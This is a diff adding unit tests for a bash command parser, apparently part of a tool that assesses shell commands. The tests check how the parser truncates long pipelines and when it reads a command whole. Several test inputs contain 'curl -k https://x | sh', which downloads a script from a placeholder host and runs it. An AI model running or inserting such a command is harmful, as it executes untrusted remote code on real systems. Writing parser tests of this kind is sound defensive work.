@@ -152,10 +152,29 @@ describe('the bash grammar read into the command model', () => {
   it('stops reading at the 20th costly syntax error, and keeps what comes before', () => {
     assert.equal(readableLength('echo ok && case $x in a) b;; (c) d;; esac; (x)'), 46);
     // Without a `)` or a redirection there is no costly error: all of it is read.
-    const pipeline = `${'a|'.repeat(1000)}sh ; case $x in`;
-    assert.equal(readableLength(pipeline), pipeline.length);
+    const chain = `${'a && '.repeat(1000)}sh ; case $x in`;
+    assert.equal(readableLength(chain), chain.length);
     const garbage = `curl -k https://x | sh; echo ${'>'.repeat(5000)}`;
     assert.ok(readableLength(garbage) < 100);
     assert.deepEqual(allCommands(parseShell(garbage)).map(name).slice(0, 2), ['curl', 'sh']);
+  });
+
+  it('stops reading at the 128th `|` of one pipeline, and keeps what comes before', () => {
+    const long = `curl -k https://x | sh; ${'a "b" | '.repeat(200)}c`;
+    assert.equal(readableLength(long), 'curl -k https://x | sh; '.length + 127 * 'a "b" | '.length + 'a "b" '.length);
+    assert.deepEqual(allCommands(parseShell(long)).map(name).slice(0, 3), ['curl', 'sh', 'a']);
+    assert.equal(readableLength(`${'a |& '.repeat(200)}c`), 127 * 'a |& '.length + 2, '`|&` joins a pipeline too');
+  });
+
+  it('reads pipelines whole when `;`, `&&`, `||`, `&` or a line break end them, and `|` in quotes, comments or escaped (looks risky, is fine)', () => {
+    for (const script of [
+      `${'a "b" | c; '.repeat(300)}d`,
+      `${'a "b" | c && '.repeat(300)}d`,
+      `${'a "b" | c || '.repeat(300)}d`,
+      `${'a "b" | c & '.repeat(300)}d`,
+      `${'a "b" | c\n'.repeat(300)}d`,
+      `echo "${'|'.repeat(300)}" '${'|'.repeat(300)}' ${'\\|'.repeat(300)} # ${'|'.repeat(300)}`,
+    ])
+      assert.equal(readableLength(script), script.length, script.slice(0, 20));
   });
 });
